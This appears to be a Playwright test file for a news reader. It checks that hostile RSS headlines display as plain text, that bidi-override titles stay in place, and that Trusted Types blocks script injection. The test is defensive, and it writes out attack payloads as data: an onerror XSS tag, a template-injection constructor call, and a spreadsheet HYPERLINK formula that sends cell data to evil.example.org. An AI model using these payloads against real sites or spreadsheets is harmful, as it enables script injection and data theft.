import { globSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import type { Page } from "@playwright/test";
import { newUser, tell } from "./support/environment-client.ts";
import { openNews, titlesOn } from "./support/news-page.ts";
import { openPage } from "./support/public-page.ts";
import { expect, signIn, test } from "./support/test.ts";

const corpus = fileURLToPath(new URL("../hostile/corpus/hostile-feeds", import.meta.url));

/** The items of every hostile RSS document, under titles of their own, in one feed. */
function hostileDocument(): string {
  const items = globSync("xss-*.xml", { cwd: corpus }).flatMap((file) => {
    const document = readFileSync(`${corpus}/${file}`, "utf8");
    return document.match(/<item>[\s\S]*<\/item>/)?.[0] ?? [];
  });
  const named = items.map((item, at) =>
    item
      .replace("Alpha Corp lifts guidance", `Alpha Corp lifts guidance ${at}`)
      .replace("/a</link>", `/a${at}</link>`),
  );
  return `<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
    <title>&lt;img src=x onerror=alert(1)&gt;</title><link>https://news.example.com/</link>${named.join("")}</channel></rss>`;
}

/** What the browser lets a script of ours turn text into. */
const refusedIn = (page: Page) =>
  page.evaluate(() => {
    const makePolicy = (name: string) =>
      Reflect.get(window, "trustedTypes").createPolicy(name, { createHTML: (text: string) => text });
    const tries: Record<string, () => unknown> = {
      markup: () => {
        document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>";
      },
      script: () => {
        document.createElement("script").text = "window.taken = true";
      },
      address: () => {
        document.createElement("script").src = "/assets/other.js";
      },
      "a policy of its own": () => makePolicy("another"),
      "a policy again": () => makePolicy("late-start"),
    };
    return Object.keys(tries).filter((name) => {
      try {
        tries[name]?.();
        return false;
      } catch {
        return true;
      }
    });
  });

const long = `Apple ${"supercalifragilistic".repeat(12)}`;
const leaving = [
  `\u202Eapple rises \u202D`,
  long,
  "苹果公司公布创纪录的季度业绩",
  "أبل تعلن عن نتائج قياسية",
];

test("hostile headlines show as text: no dialog, no script, no foreign call, no dangerous link; one that tries to leave its place stays in its row; the browser takes text of a script for markup, script or a script's address nowhere", async ({
  page,
  watch,
}) => {
  watch.allow(/TrustedHTML|TrustedScript|trusted-types|require-trusted-types-for/);
  const user = await newUser({ follows: ["harbor"] });
  await tell("behave", {
    room: user.room,
    wire: "harbor",
    behaviour: { body: hostileDocument(), contentType: "application/rss+xml", ignoresConditions: true },
  });
  await tell("look", { room: user.room });
  await signIn(page, user);
  await openNews(page, "/news?count=50");
  expect(await page.getByRole("article").count()).toBeGreaterThan(20);
  const titles = await titlesOn(page);
  expect(titles).toContain('=HYPERLINK("https://evil.example.org/?"&A1,"Alpha")');
  expect(titles.some((title) => title.includes("<img src=x onerror=alert(1)>"))).toBe(true);
  expect(titles.some((title) => title.startsWith('{{constructor.constructor("alert(1)")()}}'))).toBe(true);
  const list = page.getByRole("main").getByRole("list");
  await expect(list.locator("img, iframe, script, object, embed, style, form, video")).toHaveCount(0);
  const schemes = await page
    .getByRole("article")
    .getByRole("link")
    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
  expect(schemes.filter((scheme) => !/^https?:$/.test(scheme))).toEqual([]);

  await page.setViewportSize({ width: 320, height: 700 });
  const headlines = leaving.map((title, at) => ({ wire: "harbor" as const, title, minutesAgo: at + 1 }));
  await signIn(page, await newUser({ follows: ["harbor"], headlines }));
  await openNews(page);
  await expect(page.getByRole("article")).toHaveCount(leaving.length);
  await expect.poll(() => page.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
  expect((await titlesOn(page)).join("")).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);

  const refused = ["markup", "script", "address", "a policy of its own", "a policy again"];
  expect(await refusedIn(page)).toEqual(refused);
  await openPage(page, "/");
  expect(await refusedIn(page)).toEqual(refused);
});
